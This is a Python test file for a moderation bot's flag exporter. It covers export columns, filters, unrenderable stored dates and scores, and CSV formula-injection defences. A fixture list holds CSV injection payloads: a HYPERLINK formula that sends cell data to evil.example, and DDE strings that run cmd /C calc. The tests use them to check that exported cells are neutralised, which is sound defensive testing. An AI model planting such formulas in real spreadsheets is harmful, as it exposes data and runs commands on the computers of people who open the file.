"""bot/flag_export.py: the flags as export rows, written as CSV (safe to open in a spreadsheet) or JSONL.

`compliance-bot export` is tested in tests/test_export.py and /export in tests/test_commands.py; both write
what this module makes."""

from __future__ import annotations

import csv
import io
import json

from bot.flag_export import EXPORT_COLUMNS, export_rows, write_export
from bot.post import Post
from bot.storage import Storage
from tests.fakes.classifier import FakeClassifier

CLF = FakeClassifier()
DAY = 86400.0
NOW = 1_720_000_000.0


def make_db(tmp_path):
    """Four posts (three flagged, two of them reviewed) in tmp_path/bot.db; the CLI's environment for it."""
    now = [NOW - 10 * DAY]
    storage = Storage.open(tmp_path / "bot.db", clock=lambda: now[0])

    def scan(chat, mid, text, title, username=None, date=None):
        storage.record_scan(
            Post(chat, mid, text, date=date, chat_type="channel", chat_title=title, chat_username=username),
            CLF.predict(text),
            threshold=0.8,
            store_benign_text=False,
        )

    scan(-1001111111111, 5, "Presale of $OLD ends", "Old Gems", date=NOW - 10 * DAY)
    now[0] = NOW - DAY
    scan(-1002222222222, 7, "VIP signals, join", "Signals", username="signals", date=NOW - DAY)
    scan(-1002222222222, 8, "airdrop claim now", "Signals", username="signals", date=NOW - DAY)
    scan(-1002222222222, 9, "nice weather", "Signals", username="signals", date=NOW - DAY)
    flags = {f["message_id"]: f for f in storage.all_flags()}
    storage.record_review(flags[8]["alert_id"], "false_positive", None, 111, "Mia Mod")
    storage.record_review(flags[7]["alert_id"], "relabel", "ico", 112, None)
    storage.close()
    return {"DATABASE_PATH": str(tmp_path / "bot.db"), "TELEGRAM_BOT_TOKEN": None, "MODERATOR_CHAT_ID": None}


def csv_of(storage, **filters) -> str:
    out = io.StringIO()
    write_export(export_rows(storage, **filters), out, "csv")
    return out.getvalue()


def jsonl_of(storage, **filters) -> list[dict]:
    out = io.StringIO()
    write_export(export_rows(storage, **filters), out, "jsonl")
    return [strict_json(line) for line in out.getvalue().splitlines()]


def strict_json(line: str):
    """json.loads that refuses what is not JSON but Python writes anyway (NaN, Infinity)."""

    def refuse(constant):
        raise ValueError(f"not JSON: {constant}")

    return json.loads(line, parse_constant=refuse)


def test_rows_have_the_columns_and_values(tmp_path):
    make_db(tmp_path)
    storage = Storage.open(tmp_path / "bot.db")
    table = list(csv.DictReader(io.StringIO(csv_of(storage))))
    assert (
        list(table[0])
        == [
            "chat_id",
            "chat_title",
            "message_id",
            "link",
            "date",
            "label",
            "score",
            "status",
            "reviewed_by",
            "reviewed_at",
            "reasons",
            "text_from_image",
            "text",
            "watchlist",
            "sender",
            "actions",
        ]
        == EXPORT_COLUMNS
    )
    first, relabelled, false_positive = table
    assert first | {} == {
        "chat_id": "-1001111111111",
        "chat_title": "Old Gems",
        "message_id": "5",
        "link": "https://t.me/c/1111111111/5",
        "date": "2024-06-23T09:46:40+00:00",
        "label": "ico",
        "score": "0.97",
        "status": "pending",
        "reviewed_by": "",
        "reviewed_at": "",
        "reasons": "presale; pre",
        "text_from_image": "False",
        "text": "Presale of $OLD ends",
        "watchlist": "",
        "sender": "",
        "actions": "",
    }
    assert (relabelled["label"], relabelled["status"], relabelled["reviewed_by"]) == ("ico", "relabelled", "112")
    assert relabelled["link"] == "https://t.me/signals/7"
    assert (false_positive["status"], false_positive["reviewed_by"]) == ("false_positive", "Mia Mod (111)")
    assert false_positive["reviewed_at"] == "2024-07-02T09:46:40+00:00"
    # JSONL keeps the types and the reasons as a list.
    rows = jsonl_of(storage)
    assert [(r["chat_id"], r["message_id"], r["score"]) for r in rows] == [
        (-1001111111111, 5, 0.97),
        (-1002222222222, 7, 0.95),
        (-1002222222222, 8, 0.93),
    ]
    assert rows[1]["reasons"] == ["vip signals", "vip"] and rows[0]["reviewed_by"] is None
    assert list(rows[0]) == EXPORT_COLUMNS
    # The filters: status, label, the post's date.
    assert [r["message_id"] for r in jsonl_of(storage, statuses=["pending", "relabelled"], since=NOW - 2 * DAY)] == [7]


# -- finding 1: a stored date or score the exporter cannot render ------------------------------------------

# What an old database may hold (the scan stored these before ingest refused them), or a database edited
# by hand: each is no time a date can show, or no probability.
UNRENDERABLE_DATES = {
    2: "1e300",
    3: "253402300800",  # 10000-01-01T00:00:00Z: one second past what a date can show
    4: "-99999999999999",
    5: "9e999",  # SQLite's infinity
    6: "-9e999",  # minus infinity
    7: "'yesterday'",  # a REAL column keeps text it cannot read as a number
}


def unrenderable_db(path):
    """Ten flagged posts; then, written straight into the database, dates, scores, a review time and
    reasons no exporter can render, one per row."""
    storage = Storage.open(path, clock=lambda: NOW)
    for mid in range(1, 11):
        storage.record_scan(
            Post(
                -1001111111111,
                mid,
                f"Presale number {mid}",
                date=NOW - mid,
                chat_type="channel",
                chat_title="Gems",
                chat_username="gems",
            ),
            CLF.predict("presale"),
            threshold=0.8,
            store_benign_text=False,
        )
    flags = {f["message_id"]: f for f in storage.all_flags()}
    with storage.transaction():
        for mid, value in UNRENDERABLE_DATES.items():
            storage.db.execute(f"UPDATE posts SET date = {value} WHERE message_id = ?", [mid])
        storage.db.execute("UPDATE flags SET score = 9e999 WHERE id = ?", [flags[8]["id"]])
        storage.db.execute("UPDATE flags SET score = 'high' WHERE id = ?", [flags[9]["id"]])
        storage.db.execute("UPDATE flags SET reasons = 'not JSON [' WHERE id = ?", [flags[10]["id"]])
        # The review log only grows: an impossible review time arrives as a new row.
        storage.db.execute(
            """INSERT INTO reviews (flag_id, reviewer_id, reviewer_name, decision, old_label, new_label, at)
                              VALUES (?, 111, 'Mia Mod', 'confirm', 'ico', 'ico', 1e300)""",
            [flags[1]["id"]],
        )
    return storage


def test_a_date_or_score_that_cannot_be_rendered_is_left_empty_and_every_row_is_written(tmp_path):
    storage = unrenderable_db(tmp_path / "bot.db")
    rows = jsonl_of(storage)
    assert [r["message_id"] for r in rows] == list(range(1, 11))  # nothing stops the export
    by_id = {r["message_id"]: r for r in rows}
    for mid in UNRENDERABLE_DATES:
        assert by_id[mid]["date"] is None, mid
    assert by_id[1]["reviewed_at"] is None and by_id[1]["reviewed_by"] == "Mia Mod (111)"
    assert by_id[1]["date"] == "2024-07-03T09:46:39+00:00"  # the rest of the row as it is
    assert by_id[8]["score"] is None and by_id[9]["score"] is None and by_id[10]["reasons"] == []
    assert by_id[10]["score"] == 0.97 and by_id[8]["reasons"] == ["presale", "pre"]
    assert all(r["text"] == f"Presale number {r['message_id']}" for r in rows)
    table = list(csv.DictReader(io.StringIO(csv_of(storage))))
    assert [int(r["message_id"]) for r in table] == list(range(1, 11))
    assert [r["date"] for r in table if int(r["message_id"]) in UNRENDERABLE_DATES] == [""] * len(UNRENDERABLE_DATES)
    assert (table[0]["reviewed_at"], table[7]["score"], table[8]["score"], table[9]["reasons"]) == ("", "", "", "")


def test_the_first_and_last_second_a_date_can_show_are_rendered(tmp_path):
    storage = unrenderable_db(tmp_path / "bot.db")
    with storage.transaction():
        storage.db.execute("UPDATE posts SET date = -62135596800 WHERE message_id = 2")  # 0001-01-01T00:00:00Z
        storage.db.execute("UPDATE posts SET date = 253402300799 WHERE message_id = 3")  # 9999-12-31T23:59:59Z
    by_id = {r["message_id"]: r for r in jsonl_of(storage)}
    assert by_id[2]["date"] == "0001-01-01T00:00:00+00:00" and by_id[3]["date"] == "9999-12-31T23:59:59+00:00"


# -- finding 5: CSV formula injection -----------------------------------------------------------------------

# OWASP, "CSV Injection": a spreadsheet reads a cell that begins with one of these as a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
]


def hostile_db(path):
    """One flag per formula, each in its post's text, its chat's title and its reviewer's name."""
    storage = Storage.open(path, clock=lambda: NOW)
    for mid, formula in enumerate(FORMULAS, 1):
        outcome = storage.record_scan(
            Post(-1001111111111 - mid, mid, f"{formula} presale", date=NOW, chat_type="channel", chat_title=formula),
            CLF.predict("presale"),
            threshold=0.8,
            store_benign_text=False,
        )
        storage.record_review(outcome.alert_id, "confirm", None, 111, formula)
    return storage


def test_csv_cells_that_begin_like_a_formula_are_neutralised_and_jsonl_keeps_them_verbatim(tmp_path):
    storage = hostile_db(tmp_path / "bot.db")
    table = list(csv.DictReader(io.StringIO(csv_of(storage))))
    assert len(table) == len(FORMULAS)
    for row, formula in zip(table, FORMULAS):
        assert row["text"] == f"'{formula} presale"
        assert row["chat_title"] == f"'{formula}"
        assert row["reviewed_by"] == f"'{formula} (111)"
    for row in table:  # no cell of any column begins like a formula, numbers aside
        for column, cell in row.items():
            if column not in ("chat_id", "score"):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), (column, cell)
    # A chat id is a number, not a formula: it stays one.
    assert table[0]["chat_id"] == "-1001111111112"
    # JSONL is for programs: verbatim.
    rows = jsonl_of(storage)
    assert [r["text"] for r in rows] == [f"{f} presale" for f in FORMULAS]
    assert [r["chat_title"] for r in rows] == FORMULAS and rows[0]["reviewed_by"] == f"{FORMULAS[0]} (111)"


def test_a_separator_inside_a_text_cannot_start_a_new_cell(tmp_path):
    """OWASP: the field separator matters too. A spreadsheet set to split on ';' (most of Europe) must not
    see `x;=1+2` as two cells: every text cell is quoted, and numbers stay bare."""
    storage = Storage.open(tmp_path / "bot.db", clock=lambda: NOW)
    storage.record_scan(
        Post(-1001111111111, 1, "presale;=1+2,=3+4\t@x", date=NOW, chat_type="channel", chat_title="Gems;=1+2"),
        CLF.predict("presale"),
        threshold=0.8,
        store_benign_text=False,
    )
    header, line = csv_of(storage).splitlines()
    assert line.startswith('-1001111111111,"Gems;=1+2",1,')
    assert line.endswith(',"presale; pre",False,"presale;=1+2,=3+4\t@x","","",""')  # no platform, sender or action
    assert ",0.97," in line
    [row] = list(csv.DictReader(io.StringIO(csv_of(storage))))
    assert row["text"] == "presale;=1+2,=3+4\t@x" and row["chat_title"] == "Gems;=1+2"
